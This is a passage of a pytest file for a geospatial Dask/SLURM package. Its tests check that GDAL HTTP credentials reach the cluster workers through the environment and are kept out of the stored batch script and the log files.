    assert "export AWS_REGION=eu-north-1" in script  # not a credential: exported as before
    # the rest of the package's GDAL settings still travel in the script
    assert '"GDAL_HTTP_MAX_RETRY": 3' in _payloads(script)


@pytest.mark.parametrize(
    ("directives", "environ", "expected"),
    [
        ([], {}, "ALL"),
        ([], {"SBATCH_EXPORT": "ALL,FOO=1"}, "ALL,FOO=1"),
        (["--export=NONE"], {}, "GDAL_HTTP_USERPWD"),
        ([], {"SBATCH_EXPORT": "HOME,PATH"}, "HOME,PATH,GDAL_HTTP_USERPWD"),
        (["--export=NIL,PATH"], {"SBATCH_EXPORT": "ALL"}, "PATH,GDAL_HTTP_USERPWD"),
    ],
)
def test_export_keeps_the_users_choice_and_adds_the_credentials(directives, environ, expected):
    resolved = {"job_extra_directives": directives}
    assert cluster_module._export_option(resolved, environ, ["GDAL_HTTP_USERPWD"]) == expected


def test_slurm_workers_get_credentials_the_script_never_holds(slurm_env, tmp_path, monkeypatch):
    monkeypatch.setenv("GDAL_HTTP_USERPWD", _ENV_SECRET)
    names = ("GDAL_HTTP_USERPWD", "GDAL_HTTP_HEADERS")

    def seen_by_worker() -> dict[str, list]:
        import rasterio.env

        with rasterio.env.Env():
            gdal = [rasterio.env.get_gdal_config(n) for n in names]
        return {"environ": [os.environ.get(n) for n in names], "gdal": gdal}

    with (
        dask.config.set({"lazyraster.gdal.GDAL_HTTP_HEADERS": _CONFIG_SECRET}),
        cluster("slurm", jobs=1, log_directory=str(tmp_path), timeout=60, **_LO) as client,
    ):
        (seen,) = client.run(seen_by_worker).values()
        (job_id,) = [line.split()[0] for line in _squeue(slurm_env)]
        stored = subprocess.run(
            ["scontrol", "write", "batch_script", job_id, "-"],
            env=slurm_env, capture_output=True, text=True, check=True,
        ).stdout  # fmt: skip
    assert seen == {"environ": [_ENV_SECRET, _CONFIG_SECRET], "gdal": [_ENV_SECRET, _CONFIG_SECRET]}
    assert "#SBATCH --cpus-per-task=1" in stored  # the script SLURM keeps on disk
    text = _payloads(stored)
    assert _ENV_SECRET not in text and "cfg-t0ken" not in text
    assert "# GDAL_HTTP_USERPWD=*** comes with the job's environment" in text
    logs = "".join(p.read_text(errors="replace") for p in tmp_path.iterdir() if p.is_file())
    assert _ENV_SECRET not in logs and "cfg-t0ken" not in logs
